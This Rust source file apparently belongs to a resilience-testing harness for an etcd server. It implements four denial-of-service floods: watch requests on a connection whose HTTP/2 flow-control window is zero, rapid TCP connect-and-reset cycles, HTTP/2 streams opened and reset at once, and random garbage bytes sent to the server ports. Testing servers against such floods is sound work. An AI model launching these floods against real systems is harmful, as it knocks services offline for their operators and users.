//! Clients that send more than the server can process.

use crate::attack::Attack;
use crate::http2::{
    INITIAL_WINDOW_SIZE, PREFACE, RawConnection, header_block, headers, message, opening, reset,
};
use anyhow::{Context, Result, ensure};
use proto::etcdserverpb::watch_request::RequestUnion;
use proto::etcdserverpb::{RangeRequest, WatchCreateRequest, WatchRequest};
use rand::Rng as _;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

const WATCH: &str = "/etcdserverpb.Watch/Watch";
const RANGE: &str = "/etcdserverpb.KV/Range";
/// Messages in one DATA frame of the flood of watches.
const PER_FRAME: u64 = 64;
/// How long to wait for the server to process the input and to close connections.
const WHILE: Duration = Duration::from_millis(200);

/// Creates watches on a connection on which the server may not send any answer.
pub(super) fn watches(attack: &mut Attack<'_>) -> Result<u64> {
    let mut connection = RawConnection::open(attack.target.clients, &[(INITIAL_WINDOW_SIZE, 0)])?;
    let stream = connection.call(WATCH, &[]);
    let create = WatchCreateRequest { key: "light".into(), ..WatchCreateRequest::default() };
    let create = WatchRequest { request_union: Some(RequestUnion::CreateRequest(create)) };
    let messages = message(&create).repeat(usize::try_from(PER_FRAME)?);
    attack.repeat(|_| {
        // If the server stops reading, the window is used up and nothing more can be sent.
        let sent = connection.wait(WHILE, |connection| connection.data(stream, &messages, false));
        Ok(if sent { PER_FRAME } else { 0 })
    })
}

/// Connects and disconnects at once. Half of the connections send a request first. Most end with
/// a reset, because each orderly end keeps a port of this machine in use for a while.
pub(super) fn connects(attack: &mut Attack<'_>) -> Result<u64> {
    attack.repeat(|attack| {
        let port = attack.rng.random_range(0..3);
        let mut stream = TcpStream::connect(attack.target.ports()[port]).context("connect")?;
        if attack.rng.random() {
            // The server may have closed the connection already.
            drop(stream.write_all(b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n"));
        }
        if attack.rng.random_range(0..16) > 0 {
            socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
        }
        Ok(1)
    })
}

/// Opens streams and resets each of them at once. If the server closes the connection, the flood
/// continues on another one.
pub(super) fn resets(attack: &mut Attack<'_>) -> Result<u64> {
    let block = header_block(RANGE, &[]);
    let (mut connection, mut opened) = (None, 0_u64);
    let sent = attack.repeat(|attack| {
        let mut current = match connection.take() {
            Some(current) => current,
            None => {
                opened += 1;
                RawConnection::open(attack.target.clients, &[])?
            }
        };
        let mut frames = Vec::new();
        for _ in 0..100 {
            let stream = current.next_stream();
            frames.extend(headers(stream, &block, false));
            frames.extend(reset(stream));
        }
        current.send(&frames);
        if !current.is_closed() {
            connection = Some(current);
        }
        Ok(100)
    })?;
    ensure!(opened > 0, "no connection was opened");
    Ok(sent)
}

/// Sends random bytes to every port: from the start, after the preface, or in place of some bytes
/// of a call.
pub(super) fn garbage(attack: &mut Attack<'_>) -> Result<u64> {
    let range = RangeRequest { key: "light".into(), ..RangeRequest::default() };
    let data = crate::http2::frame(0, 1, 1, &message(&range));
    let call = [opening(&[]), headers(1, &header_block(RANGE, &[]), false), data].concat();
    attack.repeat(|attack| {
        let port = attack.rng.random_range(0..3);
        let mut stream = TcpStream::connect(attack.target.ports()[port]).context("connect")?;
        stream.set_read_timeout(Some(Duration::from_millis(5)))?;
        let mut bytes = match attack.rng.random_range(0..3) {
            0 => Vec::new(),
            1 => PREFACE.to_vec(),
            _ => call.clone(),
        };
        if bytes.len() == call.len() {
            for _ in 0..attack.rng.random_range(1..8) {
                let at = attack.rng.random_range(0..bytes.len());
                bytes[at] = attack.rng.random();
            }
        } else {
            let len = attack.rng.random_range(1..2_000);
            bytes.extend((0..len).map(|_| attack.rng.random::<u8>()));
        }
        // The server may close the connection at any byte. Its answer does not matter.
        if stream.write_all(&bytes).is_ok() {
            drop(stream.read(&mut [0; 1024]));
        }
        Ok(1)
    })
}
